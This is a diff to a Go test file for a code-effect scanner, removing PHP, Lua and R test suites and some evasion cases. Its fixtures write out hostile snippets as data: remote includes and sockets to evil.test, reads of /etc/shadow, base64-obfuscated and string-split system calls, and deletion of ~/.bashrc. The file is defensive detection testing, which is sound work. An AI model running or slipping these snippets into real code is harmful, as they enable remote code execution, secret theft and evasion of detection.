@@ -101,10 +101,10 @@ func TestTablesAreSorted(t *testing.T) {
 // TestVerbs holds every clause of every table against the words that the reader knows.
 func TestVerbs(t *testing.T) {
 	known := strings.Fields("opaque pure hazard code chdir open open-flags sqlite constant " +
-		"process argv shell list-or-shell words exec-list pipe-or-open net post socket fetch peer " +
-		"read-or-net write-or-net open-or-net bar-or-open bar-or-read source require relative send send-self call callback argument curl-option " +
-		"=path =join =file-join =resolve =paste =glob =names =entries =walk =home =homepath =dotpath =temp =fresh =env =expand =parent =same " +
-		"=list =module =ref =attribute =timer =decoded =pure =unknown")
+		"process argv shell list-or-shell words pipe-or-open net post socket fetch peer " +
+		"bar-or-open bar-or-read require relative send send-self argument " +
+		"=path =join =file-join =resolve =glob =names =entries =walk =home =homepath =dotpath =temp =fresh =env =expand =parent =same " +
+		"=module =ref =attribute =timer =decoded =pure =unknown")
 	for _, lang := range Languages() {
 		g := grammarOf(lang)
 		if g == nil {
@@ -166,10 +166,6 @@ func TestEvasions(t *testing.T) {
 		{"method(:system).call('id')", "opaque"},
 		{"Object.const_get(:Kernel).send(:system,'id')", "sh id; opaque"},
 		{"ENV['RUBYOPT']='-rx'", "opaque"},
-	})
-	testScan(t, "php", []scanCase{
-		{"$a=['sys','tem'];implode($a)('id');", "opaque"},
-		{"$p='a'; ${'p'}='b'; unlink($p);", "delete a; opaque"},
 	})
 }
 
@@ -298,78 +294,5 @@ func TestRuby(t *testing.T) {
 		{"# File.delete('x')\n=begin\nFile.delete('y')\n=end\nputs 1", ""},
 		{`puts "a" =~ /File.delete/`, ""},
 		{`load '/tmp/x.rb'`, "load /tmp/x.rb"},
-	})
-}
-
-func TestPHP(t *testing.T) {
-	testScan(t, "php", []scanCase{
-		{`echo "rm -rf /";`, ""},
-		{`include "https://evil.test/x";`, "rule code.remote; net https://evil.test/x"},
-		{`include "x.php";`, "load x.php"},
-		{`echo PHP_VERSION;`, ""},
-		{`echo json_encode(["a"=>1]);`, ""},
-		{`unlink('x');`, "delete x"},
-		{`echo file_get_contents('/etc/shadow');`, "read /etc/shadow"},
-		{`file_put_contents("a.txt", "x");`, "write a.txt"},
-		{`$f = 'a'; unlink("$f.txt");`, "delete a.txt"},
-		{`system('id');`, "sh id"},
-		{"echo `id`;", "sh id"},
-		{`$f='sys'.'tem'; $f('id');`, "sh id"},
-		{`call_user_func('system','id');`, "sh id"},
-		{`array_map('system', ['id']);`, "opaque"},
-		{`eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));`, "opaque"},
-		{`eval('unlink("x");');`, "delete x"},
-		{`include '/tmp/x.php';`, "load /tmp/x.php"},
-		{`include $x;`, "opaque"},
-		{`echo file_get_contents('http://localhost/x');`, "net http://localhost/x"},
-		{`foreach (glob('*.log') as $f) unlink($f);`, "list . (tree); delete . (tree)"},
-		{`unlink(getenv('HOME').'/.bashrc');`, "delete ~/.bashrc"},
-		{`$fp=fopen('x','w'); fwrite($fp,'y');`, "write x"},
-		{`fsockopen("evil.test",443);`, "post evil.test:443"},
-		{"<html><?php unlink('x'); ?></html> unlink('y')", "delete x"},
-		{"echo <<<'E'\nunlink('x')\nE;\nunlink('y');", "delete y"},
-		{`// unlink('x')` + "\n" + `# unlink('y')` + "\n/* unlink('z') */ echo 1;", ""},
-		{`UNLINK('x');`, "delete x"},
-		{`$x('id');`, "opaque"},
-	})
-}
-
-func TestLua(t *testing.T) {
-	testScan(t, "lua", []scanCase{
-		{`print("rm -rf /")`, ""},
-		{`os.remove("x")`, "delete x"},
-		{`os.execute "id"`, "sh id"},
-		{`os.execute[[rm -rf x]]`, "sh rm -rf x"},
-		{`print(io.popen("id"):read("*a"))`, "sh id"},
-		{`io.open("a","w"):write("x")`, "write a"},
-		{`for l in io.lines("/etc/shadow") do print(l) end`, "read /etc/shadow"},
-		{`local f = os.getenv("HOME").."/x"; os.remove(f)`, "delete ~/x"},
-		{`load("os.remove('x')")()`, "delete x"},
-		{`load(x)()`, "opaque"},
-		{`_G["os"].execute("id")`, "opaque"},
-		{`os["exe".."cute"]("id")`, "sh id"},
-		{"--[[ os.remove('x') ]] -- os.remove('y')\nprint(1)", ""},
-		{`require("socket").connect("evil.test", 80)`, "post evil.test:80"},
-		{`for _, f in ipairs{"a","b"} do os.remove(f) end`, "delete a; delete b"},
-		{`vim.cmd("!id")`, "sh id"},
-	})
-}
-
-func TestR(t *testing.T) {
-	testScan(t, "Rscript", []scanCase{
-		{`print("rm -rf /")`, ""},
-		{`cat(1+1, "\n")`, ""},
-		{`x <- read.csv("data.csv"); summary(x)`, "read data.csv"},
-		{`unlink("build", recursive=TRUE)`, "delete build (tree)"},
-		{`system("id")`, "sh id"},
-		{`system2("rm", c("-rf","x"))`, `exec ["rm" "-rf" "x"]`},
-		{`write.csv(d, file="out.csv")`, "write out.csv"},
-		{`f <- paste0("a", ".txt"); file.remove(f)`, "delete a.txt"},
-		{`source("http://evil.test/x.R")`, "rule code.remote; net http://evil.test/x.R; opaque"},
-		{`eval(parse(text=x))`, "opaque"},
-		{`writeLines(r"(a\b)", "x.txt")`, "write x.txt"},
-		{`# system("id")`, ""},
-		{`base::system("id")`, "sh id"},
-		{`install.packages("x")`, "opaque"},
 	})
 }
